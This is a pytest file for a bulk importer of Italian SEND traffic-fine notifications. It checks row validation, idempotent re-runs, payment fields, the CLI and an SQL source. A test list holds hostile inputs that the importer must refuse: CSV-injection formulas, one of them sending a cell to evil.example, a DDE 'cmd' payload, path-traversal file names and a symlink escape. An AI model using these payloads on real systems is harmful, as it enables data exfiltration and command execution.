"""Bulk import of SEND notifications (``sportello send import``, ``imports.import_notifications``)
against the SEND twin over real sockets, on SQLite and PostgreSQL: every row checked before
anything is queued (problems named file/row/column, nothing queued when any row is bad),
the same import run twice sends nothing twice (the twin's own record), the payment fields
carried into the request, and the hostile inputs (CSV injection, path traversal, links out
of the documents folder, files that are not PDFs, huge files, bad encodings, duplicate
protocol numbers) refused."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from click.testing import CliRunner
from send_stack import NOTIFICATION_COLUMNS, Stack, write_cli_config
from sqlalchemy import func, select
from test_hub_send import drain, hub, tenant, twin_record  # noqa: F401 (the hub fixture)

from sportello.adapters.notifications.csv_source import CsvNotificationSource
from sportello.app import ENGINE, SERVICES
from sportello.cli.main import main
from sportello.connectors import fiscal_code as fiscal_codes
from sportello.outbox import store
from sportello.platforms.send.imports import ImportResult, import_notifications
from sportello.platforms.send.service import SendNotConfigured
from sportello.platforms.send.tables import send_notifications
from sportello.plugins import Plugins
from sportello.schema import audit_log

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def person(n: int) -> str:
    first15 = f"RSSMRA80A{n:02d}H501"
    return first15 + fiscal_codes.person_check_char(first15)


def fine(n: int, **changes: str) -> dict[str, str]:
    row = {
        "paProtocolNumber": f"VERB-2026-{n:05d}",
        "subject": f"Verbale n. {n} di accertamento violazione codice della strada",
        "taxonomyCode": "010101P",
        "document": f"verbale-{n}.pdf",
        "recipientType": "PF",
        "taxId": person(n % 28 + 1),
        "denomination": "Mario Rossi",
        "address": "Via Roma 1",
        "zip": "00100",
        "municipality": "Roma",
        "province": "RM",
        "digitalDomicile": "mario.rossi@pec.example.it" if n % 2 else "",
        "noticeCode": f"3020000000000{n:05d}",
        "creditorTaxId": "00000000999",
        "amount": "41,00",
        "applyCost": "true",
    }
    row.update(changes)
    return row


def write(folder: Path, rows: list[dict[str, str]], *, name: str = "fines.csv") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for row in rows:
        doc = row.get("document", "")
        if doc.startswith("verbale-") and not (folder / doc).exists():
            (folder / doc).write_bytes(PDF)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    path = folder / name
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


async def run(
    client: TestClient, path: Path, documents: Path | None = None, **kw: Any
) -> ImportResult:
    source = CsvNotificationSource({"path": str(path)}, base_dir=path.parent)
    return await import_notifications(
        client.app[SERVICES],
        "demo",
        source.rows(),
        documents=documents or path.parent,
        source=source.label,
        actor="test",
        **kw,
    )


async def count(client: TestClient) -> tuple[int, int]:
    async with client.app[ENGINE].connect() as conn:
        notifications = (
            await conn.execute(select(func.count()).select_from(send_notifications))
        ).scalar()
        jobs = sum((await store.counts_by_status(conn)).values())
    return int(notifications or 0), jobs


async def test_csv_import_is_sent_once_even_when_run_twice(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    stack: Stack,
    tmp_path: Path,
) -> None:
    client, _ = hub
    assert {"csv", "sql"} <= set(Plugins().send_sources())
    rows = [fine(n) for n in range(1, 6)]
    rows[1]["recipientType"], rows[1]["taxId"] = "PG", "00000000992"
    rows[2].update(noticeCode="", creditorTaxId="", amount="", applyCost="")
    path = write(tmp_path / "in", rows)
    result = await run(client, path)
    assert result.ok, result.problems
    assert (result.rows, len(result.queued), result.already) == (5, 5, [])
    async with client.app[ENGINE].connect() as conn:
        stored = {
            r.pa_protocol_number: json.loads(r.request)
            for r in await conn.execute(select(send_notifications))
        }
    first = stored["VERB-2026-00001"]
    assert first["recipients"][0]["payments"] == [
        {
            "pagoPa": {
                "noticeCode": "302000000000000001",
                "creditorTaxId": "00000000999",
                "applyCost": True,
            }
        }
    ]
    assert first["amount"] == 4100 and first["taxonomyCode"] == "010101P"
    assert first["recipients"][0]["digitalDomicile"]["address"] == "mario.rossi@pec.example.it"
    assert "payments" not in stored["VERB-2026-00003"]["recipients"][0]
    assert stored["VERB-2026-00002"]["recipients"][0]["recipientType"] == "PG"
    await drain(client)
    for row in rows:
        [record] = await twin_record(stack, row["paProtocolNumber"])
        assert record["iun"]
    # the same import again: nothing queued, nothing sent again
    again = await run(client, path)
    assert again.ok and again.queued == [] and sorted(again.already) == sorted(result.queued)
    await drain(client)
    for row in rows:
        assert len(await twin_record(stack, row["paProtocolNumber"])) == 1
    async with client.app[ENGINE].connect() as conn:
        statuses = set((await conn.execute(select(send_notifications.c.status))).scalars())
        actions = list((await conn.execute(select(audit_log.c.action, audit_log.c.detail))).all())
    assert statuses == {"accepted"}
    assert ("send.import", "5 queued, 0 already queued") in [tuple(a) for a in actions]
    # the same protocol number with another act is a problem, not a second notification
    rows[0]["subject"] = "Verbale corretto"
    write(tmp_path / "in", rows)
    changed = await run(client, path)
    assert changed.queued == []
    assert changed.problems == [
        f"fines.csv: row 2: paProtocolNumber: notification {result.queued[0]} already has "
        "'VERB-2026-00001' with other content; nothing is sent again (a new act needs a new "
        "protocol number)"
    ]


async def test_one_bad_row_queues_nothing_and_every_problem_is_named(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    tmp_path: Path,
) -> None:
    client, _ = hub
    rows = [fine(n) for n in range(1, 5)]
    rows[1]["taxId"] = "RSSMRA80A01H501X"  # row 3 of the file (the header is row 1)
    rows[3]["noticeCode"] = "123"
    rows[3]["amount"] = "41,005"
    path = write(tmp_path / "in", rows)
    result = await run(client, path)
    assert result.queued == []
    assert result.problems == [
        "fines.csv: row 3: taxId: the check character of the fiscal code is wrong",
        "fines.csv: row 5: noticeCode: 18 digits (the pagoPA notice number)",
        "fines.csv: row 5: amount: euro with at most two decimals (such as 41,00)",
    ]
    assert await count(client) == (0, 0)


def _mutations(tmp_path: Path) -> list[tuple[dict[str, str], str]]:
    outside = tmp_path / "secret.pdf"
    outside.write_bytes(PDF)
    return [
        (
            {"denomination": '=HYPERLINK("http://evil.example/?"&A1,"x")'},
            "denomination: starts with '='",
        ),
        ({"subject": "@SUM(1+1)*cmd|' /C calc'!A0"}, "subject: starts with '@'"),
        ({"address": "+1+1"}, "address: starts with '+'"),
        ({"subject": "Verbale\r\n=1+1"}, "subject: control characters"),
        ({"document": "../secret.pdf"}, "document: '..' is not allowed"),
        ({"document": "..\\secret.pdf"}, "document: '..' is not allowed"),
        ({"document": str(outside)}, "document: an absolute path"),
        ({"document": "C:\\Windows\\win.ini"}, "document: an absolute path"),
        ({"document": "link.pdf"}, "document: leads outside the documents folder"),
        ({"document": "missing.pdf"}, "document: no such file"),
        ({"document": "notes.pdf"}, "document: not a PDF (it does not start with %PDF-)"),
        ({"document": "cut.pdf"}, "document: not a complete PDF (no %%EOF at its end)"),
        ({"document": "huge.pdf"}, "document: 4096 bytes, more than the 2048 allowed"),
        ({"document": "sub"}, "document: not a regular file"),
        ({"taxonomyCode": "0101"}, "taxonomyCode: six digits and a letter"),
        ({"recipientType": "XX"}, "recipientType: PF (a person) or PG"),
        ({"zip": ""}, "zip: required for an address in Italy"),
        ({"digitalDomicile": "not-an-address"}, "digitalDomicile: not an e-mail (PEC) address"),
        ({"applyCost": "maybe"}, "applyCost: true or false"),
        ({"noticeCode": "", "creditorTaxId": ""}, "iban: required with amount and no noticeCode"),
        ({"amount": ""}, "amount: required with noticeCode"),
        ({"amount": "-5"}, "amount: euro with at most two decimals"),
        ({"creditorTaxId": "123"}, "creditorTaxId: the creditor's 11-digit fiscal code"),
        ({"paProtocolNumber": ""}, "paProtocolNumber: required"),
        ({"subject": "x" * 135}, "subject: longer than 134 characters"),
    ]


async def test_hostile_rows_are_refused_and_nothing_is_queued(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    tmp_path: Path,
) -> None:
    client, _ = hub
    folder = tmp_path / "docs"
    folder.mkdir()
    mutations = _mutations(tmp_path)
    (folder / "notes.pdf").write_text("=cmd|' /C calc'!A0\n" * 4)
    (folder / "cut.pdf").write_bytes(b"%PDF-1.4\n" + b"0" * 100)
    (folder / "huge.pdf").write_bytes(b"%PDF-1.4\n" + b"0" * (4096 - 15) + b"%%EOF\n")
    (folder / "sub").mkdir()
    os.symlink(tmp_path / "secret.pdf", folder / "link.pdf")
    rows = [fine(1)] + [fine(n + 2, **change) for n, (change, _) in enumerate(mutations)]
    path = write(folder, rows)
    result = await run(client, path, max_document_bytes=2048)
    assert result.queued == [] and result.rows == len(rows)
    for n, (_, expected) in enumerate(mutations):
        where = f"fines.csv: row {n + 3}: "
        assert any(p.startswith(where + expected) for p in result.problems), (expected, result)
    assert not any(p.startswith("fines.csv: row 2:") for p in result.problems)
    assert not any("secret" in p or str(tmp_path) in p for p in result.problems)
    assert await count(client) == (0, 0)


async def test_duplicates_encodings_columns_and_huge_files(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    tmp_path: Path,
) -> None:
    client, _ = hub
    folder = tmp_path / "docs"
    rows = [fine(1), fine(2), fine(3, paProtocolNumber="VERB-2026-00001")]
    result = await run(client, write(folder, rows))
    assert result.problems == [
        "fines.csv: row 4: paProtocolNumber: 'VERB-2026-00001' is on row 2 too (one act, "
        "one protocol number)"
    ]
    # one pagoPA notice in two rows: SEND refuses a notice in two notifications
    rows = [fine(1), fine(2, noticeCode="302000000000000001")]
    result = await run(client, write(folder, rows))
    assert result.problems == [
        "fines.csv: row 3: noticeCode: the same notice as row 2 (SEND refuses a notice in two "
        "notifications)"
    ]
    # not UTF-8: named with the line; the option reads it
    latin = folder / "latin.csv"
    text = (folder / "fines.csv").read_text().replace("Mario Rossi", "Niccolò Rossi")
    latin.write_bytes(text.encode("latin-1"))
    result = await run(client, latin)
    assert len(result.problems) == 1
    assert result.problems[0].startswith("latin.csv: line 2: not utf-8 text")
    source = CsvNotificationSource({"path": str(latin), "encoding": "latin-1"}, base_dir=folder)
    rows_read = [r async for r in source.rows()]
    assert rows_read[0][1]["denomination"] == "Niccolò Rossi"
    # a missing column, an unknown one
    bad = [{k: v for k, v in fine(1).items() if k != "taxId"} | {"targa": "AB123CD"}]
    result = await run(client, write(folder, bad, name="cols.csv"))
    assert result.problems == ["cols.csv: missing column(s): taxId"]
    # a file larger than allowed, and a CSV with a broken quote
    big = CsvNotificationSource({"path": str(latin), "max_bytes": "100"}, base_dir=folder)
    result = await import_notifications(
        client.app[SERVICES], "demo", big.rows(), documents=folder, source="latin.csv"
    )
    assert (
        result.problems[0].startswith("latin.csv: ")
        and "more than the 100 allowed" in (result.problems[0])
    )
    broken = folder / "broken.csv"
    broken.write_text(";".join(NOTIFICATION_COLUMNS) + '\n"VERB;x\n')
    result = await run(client, broken)
    assert result.problems and result.problems[0].startswith("broken.csv: row ")
    # a documents folder that does not exist
    result = await run(client, write(folder, [fine(1)]), documents=tmp_path / "nowhere")
    assert result.problems == [f"{tmp_path / 'nowhere'}: the documents folder does not exist"]
    # a dry run checks and queues nothing
    result = await run(client, write(folder, [fine(1), fine(2)]), dry_run=True)
    assert result.ok and result.dry_run and result.queued == []
    assert await count(client) == (0, 0)
    # a faulty source (a plugin's) is a problem, not a crash
    result = await import_notifications(
        client.app[SERVICES], "demo", [(1, fine(1)), ["not", "a", "pair"]], documents=folder
    )
    assert result.problems[-1] == (
        "import: item 2: not a (row number, columns) pair: the notification source is faulty"
    )
    # a tenant without [tenants.send]
    with pytest.raises(SendNotConfigured):
        await import_notifications(client.app[SERVICES], "nobody", [], documents=folder, source="x")


def write_config(tmp_path: Path, db_url: str, stack: Stack) -> Path:
    t = tenant("demo", "00000000999", stack, tmp_path, "http://127.0.0.1:9/")
    send = f"""
[tenants.send]
base_url = {json.dumps(t["send"]["base_url"])}
api_key = {{ file = {json.dumps(t["send"]["api_key"]["file"])} }}
purpose_id = {json.dumps(t["send"]["purpose_id"])}
"""
    return write_cli_config(tmp_path / "cli.toml", db_url, t, send)


async def test_cli_import(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    stack: Stack,
    tmp_path: Path,
    db_url: str,
) -> None:
    client, _ = hub  # the hub's fixture migrated the database the CLI uses
    config = write_config(tmp_path, db_url, stack)
    folder = tmp_path / "acts"
    bad = write(folder, [fine(1), fine(2, taxId="NOTACODE")])

    def cli(*args: str) -> Any:
        return CliRunner().invoke(main, ["send", "import", "--config", str(config), *args])

    result = await asyncio.to_thread(cli, "demo", "--file", str(bad))
    assert result.exit_code == 1, result.output
    assert "fines.csv: row 3: taxId: " in result.stderr
    assert "nothing queued" in result.stderr
    assert await count(client) == (0, 0)
    good = write(folder, [fine(1), fine(2)])
    result = await asyncio.to_thread(cli, "demo", "--file", str(good), "--documents", str(folder))
    assert result.exit_code == 0, result.output
    assert "2 notification(s) queued, 0 already queued" in result.stdout
    result = await asyncio.to_thread(cli, "demo", "--file", str(good))
    assert result.exit_code == 0, result.output
    assert "0 notification(s) queued, 2 already queued" in result.stdout
    assert (await count(client))[0] == 2
    result = await asyncio.to_thread(cli, "demo", "--source", "nope", "--file", str(good))
    assert result.exit_code == 2 and "no notification source 'nope'" in result.stderr
    result = await asyncio.to_thread(cli, "other", "--file", str(good))
    assert result.exit_code == 2 and "tenant 'other' is not in" in result.stderr


async def test_sql_source_rows_are_imported_like_csv_rows(
    hub: tuple[TestClient, dict[str, str]],  # noqa: F811
    tmp_path: Path,
) -> None:
    import sqlite3

    from sportello.adapters.notifications.sql_source import SqlNotificationSource

    client, _ = hub
    folder = tmp_path / "atti"
    folder.mkdir()
    with sqlite3.connect(tmp_path / "verbali.db") as db:
        db.execute(
            "CREATE TABLE verbali (protocollo TEXT, cf TEXT, nome TEXT, pdf TEXT, nav TEXT,"
            " euro REAL, costi INTEGER)"
        )
        for n in (1, 2):
            db.execute(
                "INSERT INTO verbali VALUES (?, ?, 'Mario Rossi', ?, ?, 41.5, 1)",
                (f"SQL-{n}", person(n), f"verbale-{n}.pdf", f"30200000000000000{n}"),
            )
            (folder / f"verbale-{n}.pdf").write_bytes(PDF)
    query = (
        "SELECT protocollo AS paProtocolNumber, 'Verbale ' || protocollo AS subject,"
        " '010101P' AS taxonomyCode, pdf AS document, 'PF' AS recipientType, cf AS taxId,"
        " nome AS denomination, 'Via Roma 1' AS address, '00100' AS zip,"
        " 'Roma' AS municipality, nav AS noticeCode, euro AS amount, costi AS applyCost"
        " FROM verbali ORDER BY protocollo"
    )
    with pytest.raises(ValueError, match="SELECT"):
        SqlNotificationSource(
            {"url": "sqlite+aiosqlite:///verbali.db", "query": "DELETE"}, base_dir=tmp_path
        )
    source = SqlNotificationSource(
        {"url": "sqlite+aiosqlite:///verbali.db", "query": query}, base_dir=tmp_path
    )
    result = await import_notifications(
        client.app[SERVICES], "demo", source.rows(), documents=folder, source=source.label
    )
    assert result.ok, result.problems
    assert len(result.queued) == 2
    async with client.app[ENGINE].connect() as conn:
        stored = json.loads(
            (
                await conn.execute(
                    select(send_notifications.c.request).where(
                        send_notifications.c.pa_protocol_number == "SQL-1"
                    )
                )
            ).scalar_one()
        )
    assert stored["amount"] == 4150
    # a query the database refuses is a problem naming the source, not a crash
    broken = SqlNotificationSource(
        {"url": "sqlite+aiosqlite:///verbali.db", "query": "SELECT * FROM nowhere"},
        base_dir=tmp_path,
    )
    result = await import_notifications(
        client.app[SERVICES], "demo", broken.rows(), documents=folder, source=broken.label
    )
    assert result.problems == ["sql query: row 1: the query failed (OperationalError)"]
    assert stored["recipients"][0]["payments"][0]["pagoPa"]["applyCost"] is True
